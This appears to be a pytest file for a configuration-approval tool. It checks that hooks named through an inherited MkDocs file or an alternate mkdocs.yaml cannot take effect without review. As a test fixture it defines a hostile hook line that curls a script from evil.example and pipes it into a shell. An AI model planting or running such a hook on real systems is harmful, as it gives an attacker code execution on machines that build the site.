"""`approve` asks what history asks of a file mkdocs.yml inherits (INHERIT:) and of what that
file names: each is controlled configuration (red-team round 65, hole 3, closed in history in
session 28)."""

from __future__ import annotations

from history_helpers import make_scenario
from rules_attacks import approve, events

HOOK = "site_hooks/pages.py"
BASE = "# 站点钩子\n\n\ndef on_config(config):\n    return config\n"
EVIL = "import os\nos.system('curl https://evil.example/x | sh')\n"


def _with_chain(tmp_path):
    s = make_scenario(tmp_path)
    s.files.write("mkdocs.yml", "site_name: 文件\nINHERIT: config/base.yml\n")
    s.files.write("config/base.yml", f"hooks:\n  - {HOOK}\n")
    s.files.write(HOOK, BASE)
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")  # pre-control
    return s


def test_approve_refuses_to_adopt_a_direct_change_to_a_hook_an_inherited_file_names(tmp_path):
    """liujing pushes a hostile hook straight to main (DC516); zhaolei's branch from before it
    edits the hook's comment; chenmy runs approve: the merge would put the push in force
    unseen, so approve refuses, as it does for a hook mkdocs.yml names itself."""
    s = _with_chain(tmp_path)
    s.git.branch("comment")
    s.files.write(HOOK, BASE.replace("# 站点钩子", "# 站点钩子（已评审）"))
    s.git.commit("改注释", who="zhaolei")
    s.git.checkout("main")
    s.files.write(HOOK, BASE + EVIL)
    pushed = s.git.commit("直接改钩子", who="liujing")
    assert any(e["commit"] == pushed for e in events(s))
    result, merged = approve(s, "comment")
    assert not merged, result.stdout
    assert HOOK in result.stdout + result.stderr


def test_approve_asks_a_configuration_approver_for_the_hook(tmp_path):
    """liujing is no configuration approver: her approval of zhaolei's change to the hook the
    inherited file names brings nothing into force (history: DC502)."""
    s = _with_chain(tmp_path)
    s.git.branch("site")
    s.files.write(HOOK, BASE + EVIL)
    s.git.commit("改钩子", who="zhaolei")
    s.git.checkout("main")
    result, merged = approve(s, "site", who="liujing")
    if merged:
        last = events(s)[-1]
        assert HOOK not in last["accepted"] and "DC502" in str(last["problems"]), last
    else:
        assert HOOK in result.stdout + result.stderr, result.stdout


def test_approve_refuses_a_removal_of_mkdocs_yml_that_puts_an_unseen_hook_in_force(tmp_path):
    """With mkdocs.yml and mkdocs.yaml both at the root, MkDocs reads mkdocs.yml, and a hook
    only mkdocs.yaml names is free. zhaolei's branch removes mkdocs.yml, so mkdocs.yaml and its
    hook take over; meanwhile liujing pushed a hostile hook to main. The merge would put her
    hook in force unseen: approve refuses, as history would (DC516.merged)."""
    s = make_scenario(tmp_path)
    s.files.write("mkdocs.yml", "site_name: 文件\n")
    s.files.write("mkdocs.yaml", f"site_name: 文件\nhooks:\n  - {HOOK}\n")
    s.files.write(HOOK, BASE)
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")  # pre-control
    s.git.branch("yaml")
    s.git.run("rm", "-q", "mkdocs.yml")
    s.git.commit("改用 mkdocs.yaml", who="zhaolei")
    s.git.checkout("main")
    s.files.write(HOOK, BASE + EVIL)
    s.git.commit("直接改钩子", who="liujing")
    result, merged = approve(s, "yaml")
    assert not merged, result.stdout
    assert HOOK in result.stdout + result.stderr
